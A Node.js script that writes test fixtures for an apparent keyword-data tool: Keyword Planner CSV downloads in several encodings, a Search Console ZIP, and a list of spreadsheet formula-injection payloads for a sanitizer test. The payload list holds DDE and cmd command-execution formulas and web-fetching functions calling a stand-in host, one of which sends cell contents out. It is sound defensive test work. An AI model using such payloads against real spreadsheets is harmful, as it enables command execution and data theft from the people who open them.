// @ts-check
// Writes the test data files that are awkward to write by hand: the Keyword Planner downloads (UTF-16LE with a BOM,
// UTF-8 with a BOM), the Search Console ZIP (built from the gsc-export folder) and the formula-injection payloads (some
// start with a tab or a carriage return). The output is committed; run `node infra/test/data/generate.mjs` after
// changing this file or the gsc-export folder. See README.md here for what each file holds.
import { zipSync } from 'fflate';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = fileURLToPath(new URL('.', import.meta.url));

/** UTF-16LE with its BOM, as Keyword Planner's default download. */
const utf16le = (/** @type {string} */ text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
/** UTF-8 with its BOM, as a spreadsheet saves a CSV. */
const utf8bom = (/** @type {string} */ text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);

const fixedColumns = ['Keyword', 'Currency', 'Avg. monthly searches', 'Three month change', 'YoY change', 'Competition', 'Competition (indexed value)',
  'Top of page bid (low range)', 'Top of page bid (high range)', 'Ad impression share', 'Organic impression share', 'Organic average position', 'In account?', 'In plan?'];
const monthColumns = (/** @type {string[]} */ months) => months.map((month) => `Searches: ${month}`);
const empty = (/** @type {number} */ count) => Array.from({ length: count }, () => '');

// Twelve months, Sep 2025 … Aug 2026: the rows land on 2026-08-01.
const yearToAugust = ['Sep 2025', 'Oct 2025', 'Nov 2025', 'Dec 2025', 'Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026'];

/**
 * keyword-stats.csv: the download as Keyword Planner gives it. Title and date-range lines, tab-separated, monthly
 * columns, a trailing "Concept" column, empty cells, 'Unknown' competition, ' --' changes, a quoted cell with a comma.
 */
function plannerWithTitles() {
  const header = [...fixedColumns, ...monthColumns(yearToAugust), 'Concept: Bread type'];
  /** @type {(string | number)[][]} */
  const rows = [
    ['sourdough starter', 'USD', 74000, '0%', '22%', 'Medium', 41, 0.38, 1.12, ...empty(5), 60500, 60500, 74000, 74000, 90500, 90500, 74000, 74000, 60500, 60500, 74000, 90500, 'Sourdough'],
    ['rye bread', 'USD', 33100, '-18%', '0%', 'Low', 9, 0.21, 0.77, ...empty(5), 40500, 40500, 33100, 33100, 27100, 27100, 27100, 27100, 33100, 33100, 40500, 33100, 'Rye'],
    ['pumpernickel', 'USD', 12100, '0%', '0%', 'Low', 5, 0.19, 0.61, ...empty(5), 12100, 12100, 14800, 18100, 12100, 9900, 9900, 9900, 12100, 12100, 12100, 12100, 'Rye'],
    ['wedding cake tasting', 'USD', 1300, '22%', '50%', 'High', 88, 1.46, 4.02, ...empty(5), 880, 880, 720, 880, 1300, 1600, 1900, 1900, 1600, 1300, 1300, 1300, ''],
    ['bäckerei in der nähe', 'USD', 5400, '0%', '0%', 'Medium', 36, 0.9, 2.3, ...empty(5), 5400, 5400, 6600, 6600, 4400, 4400, 5400, 5400, 5400, 5400, 5400, 5400, ''],
    // No bids: no CPC.
    ['levain', 'USD', 1900, '0%', '-18%', 'Low', 3, '', '', ...empty(5), 1900, 1900, 1600, 1600, 1900, 1900, 2400, 1900, 1900, 1900, 1600, 1900, 'Sourdough'],
    ['"bread, rye or spelt"', 'USD', 10, '0%', '0%', 'Unknown', '', '', '', ...empty(5), 0, 10, 0, 10, 10, 0, 0, 0, 10, 0, 10, 20, '"Rye, Spelt"'],
    ['spelt flour', 'USD', 8100, '0%', '-18%', 'Low', 14, 0.25, 0.9, ...empty(5), 8100, 8100, 9900, 9900, 8100, 6600, 6600, 6600, 8100, 8100, 8100, 8100, 'Spelt'],
    // Too few searches: no numbers at all (Keyword Planner's ' --' for the changes).
    ['sourdough discard pancakes', 'USD', '', ' --', ' --', 'Unknown', ...empty(8), ...empty(12), 'Sourdough'],
  ];
  const lines = ['Keyword Stats 2026-09-14 at 09_14_55', '"September 1, 2025 - August 31, 2026"', header.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16le(`${lines.join('\n')}\n`);
}

/** keyword-stats-no-title.csv: header on line 1, no monthly columns (the date comes from the user), CRLF. */
function plannerWithoutTitles() {
  const rows = [
    ['croissant recipe', 'USD', 49500, '0%', '0%', 'Low', 6, 0.12, 0.58, ...empty(5)],
    ['hot cross buns', 'USD', 22200, '900%', '0%', 'Low', 11, 0.2, 0.74, ...empty(5)],
    ['gluten free bread', 'USD', 27100, '0%', '22%', 'Medium', 52, 0.47, 1.61, ...empty(5)],
    ['bakery near me', 'USD', 1220000, '0%', '0%', 'High', 100, 0.87, 3.11, ...empty(5)],
  ];
  const lines = [fixedColumns.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16le(`${lines.join('\r\n')}\r\n`);
}

// Twelve months, Nov 2025 … Oct 2026: the rows land on 2026-10-01.
const yearToOctober = ['Nov 2025', 'Dec 2025', 'Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026', 'Sep 2026', 'Oct 2026'];

/**
 * keyword-stats-comma.csv: the comma-separated UTF-8 variant (Keyword Planner's CSV as a spreadsheet saves it):
 * title lines, monthly columns, a volume written with a thousands separator in quotes, one row priced in euros
 * (no CPC: the warehouse keeps US dollars).
 */
function plannerCommaSeparated() {
  const quote = (/** @type {string | number} */ value) => (/[",\n]/.test(String(value)) ? `"${String(value).replace(/"/g, '""')}"` : String(value));
  const header = [...fixedColumns, ...monthColumns(yearToOctober)];
  /** @type {(string | number)[][]} */
  const rows = [
    ['focaccia recipe', 'USD', '1,300', '0%', '0%', 'Low', 4, 0.1, 0.45, ...empty(5), 1000, 1300, 1300, 1300, 1600, 1600, 1300, 1300, 1300, 1000, 1000, 1300],
    ['cinnamon buns', 'USD', 40500, '22%', '0%', 'Low', 8, 0.15, 0.65, ...empty(5), 49500, 60500, 40500, 33100, 33100, 33100, 33100, 33100, 33100, 40500, 40500, 49500],
    ['pain au chocolat', 'EUR', 18100, '0%', '0%', 'Low', 7, 0.2, 0.8, ...empty(5), 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100],
  ];
  const lines = ['Keyword Stats 2026-11-02 at 16_40_03', 'November 1, 2025 - October 31, 2026', header.map(quote).join(','), ...rows.map((row) => row.map(quote).join(','))];
  return utf8bom(`${lines.join('\r\n')}\r\n`);
}

/**
 * Formula-injection payloads, one a line: what a spreadsheet would run if a cell started with them (=, +, -, @, a
 * tab, a carriage return, full-width signs, leading spaces), DDE and web-fetching functions, and a few harmless
 * look-alikes (plain numbers, text with a sign inside) that must come out unchanged.
 */
const payloads = [
  '=2+5', '=SUM(2,3)', '=SUM(B2:B9)', '=AVERAGE(1;2)', '+3+4', '-3+4', '-2*2', '+SUM(1,1)', '@SUM(4,4)', '@A1',
  '=1+2+cmd|\' /C notepad\'!Z9', '=cmd|\'/C whoami\'!A2', '=cmd|\'/c dir\'!B1', '+cmd|\'/c echo hi\'!A1', '-cmd|\'/c echo hi\'!A1',
  '@cmd|\'/c echo hi\'!A1', '=DDE("cmd";"/C echo";"!B2")', '@DDE("cmd";"/C echo";"!B2")', '+DDE("cmd";"/C echo";"!B2")',
  '-DDE("cmd";"/C echo";"!B2")', 'DDE("cmd";"/C echo";"!B2")', '=HYPERLINK("https://bad.example/steal?d="&A1,"Open")',
  '@HYPERLINK("https://bad.example","Open")', '+HYPERLINK("https://bad.example","Open")', '-HYPERLINK("https://bad.example","Open")',
  '=IMPORTXML("https://bad.example/x","//p")', '=IMPORTHTML("https://bad.example/t","table",1)', '=IMPORTDATA("https://bad.example/d.csv")',
  '=IMPORTRANGE("https://docs.example/sheet","A1:Z99")', '=IMPORTFEED("https://bad.example/rss")', '=IMAGE("https://bad.example/p.png")',
  '=WEBSERVICE("https://bad.example/ping")', '=ENCODEURL(A1)', '=INDIRECT("A"&1)', '=IF(1=1,"yes","no")', '=IFERROR(1/0,"x")',
  '=CONCATENATE("a","b")', '=CHAR(61)&"1+1"', '=REGISTER("kernel32","WinExec")', '=EXEC("notepad")',
  '\t=3+3', '\t+3+3', '\t-3+3', '\t@SUM(3,3)', '\r=4+4', '\r@SUM(4,4)',
  ' =5+5', '   +5+5', '\u00a0=6+6', '\uff1d7+7', '\uff0b7+7', '\uff207', '\uff0d7+7',
  '=', '+', '-', '@',
  // Look-alikes that stay as they are: numbers, and signs that do not start the cell.
  '-42', '+7', '3.5e2', 'price = 2+2', 'email@bad.example', "'=already quoted",
];

const gscFolder = join(here, 'gsc-export');
const gscZip = zipSync(
  Object.fromEntries(readdirSync(gscFolder).sort().map((name) => [name, [new Uint8Array(readFileSync(join(gscFolder, name))), { mtime: new Date('2026-10-01T08:00:00Z') }]])),
);

writeFileSync(join(here, 'keyword-planner', 'keyword-stats.csv'), plannerWithTitles());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-no-title.csv'), plannerWithoutTitles());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-comma.csv'), plannerCommaSeparated());
writeFileSync(join(here, 'gsc-export.zip'), gscZip);
writeFileSync(join(here, 'security', 'formula-injection.txt'), `${payloads.join('\n')}\n`);
